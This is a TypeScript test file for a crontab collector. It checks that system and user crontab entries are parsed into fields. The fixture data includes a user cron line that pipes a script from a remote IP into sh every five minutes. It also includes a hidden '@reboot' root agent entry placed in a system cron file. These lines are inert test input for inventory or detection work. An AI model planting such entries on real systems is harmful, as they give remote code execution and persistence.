import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFixtureRoot, type FixtureRoot } from "../_testdata/fixture-root.js";
import { collectAll, createTestContext, runConformance } from "../conformance.js";
import { createHostView } from "../host-view.js";
import { taskCollector } from "./task.js";

let fixture: FixtureRoot | undefined;
const host = (): ReturnType<typeof createHostView> => createHostView(fixture?.root ?? "/nonexistent");
beforeAll(async () => {
  const f = await createFixtureRoot("task");
  fixture = f;
  await f.file("/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n");
  await f.file("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -A -r\n@reboot root /opt/.x/agent --quiet\n");
  await f.file("/etc/cron.d/.placeholder", "# ignored\n");
  await f.file("/var/spool/cron/crontabs/alice", "# user crontab\n*/5 * * * * curl -s http://203.0.113.5/x.sh | sh\n@daily   /home/alice/backup.sh  --all\n");
});
afterAll(async () => fixture?.remove());

runConformance(taskCollector, (fields) => createTestContext(createHostView("/"), fields), { label: "live" });
runConformance(taskCollector, (fields) => createTestContext(host(), fields), { minRecords: 5, label: "fixture root" });

describe("taskCollector", () => {
  it("taskCollector reads system crontabs with their user column and user crontabs by file name", async () => {
    const records = await collectAll(taskCollector, createTestContext(host()), undefined);
    expect(records.map((r) => r.id)).toEqual([
      "/etc/crontab crontab:3",
      "/etc/cron.d/e2scrub_all e2scrub_all:1",
      "/etc/cron.d/e2scrub_all e2scrub_all:2",
      "/var/spool/cron/crontabs/alice alice:2",
      "/var/spool/cron/crontabs/alice alice:3",
    ]);
    expect(records[0]?.fields).toEqual({
      Name: "crontab:3",
      crontabCommand: "cd / && run-parts --report /etc/cron.hourly",
      crontabMinute: "17",
      crontabHour: "*",
      crontabDayOfMonth: "*",
      crontabMonth: "*",
      crontabDayOfWeek: "*",
      crontabPath: "/etc/crontab",
      userName: "root",
    });
    expect(records[2]?.fields).toEqual({
      Name: "e2scrub_all:2",
      crontabCommand: "/opt/.x/agent --quiet",
      crontabPath: "/etc/cron.d/e2scrub_all",
      userName: "root",
    });
    expect(records[3]?.fields).toMatchObject({ crontabMinute: "*/5", userName: "alice", crontabCommand: "curl -s http://203.0.113.5/x.sh | sh" });
    expect(records[4]?.fields).toMatchObject({ crontabMinute: "0", crontabHour: "0", crontabCommand: "/home/alice/backup.sh  --all" });
  });
});
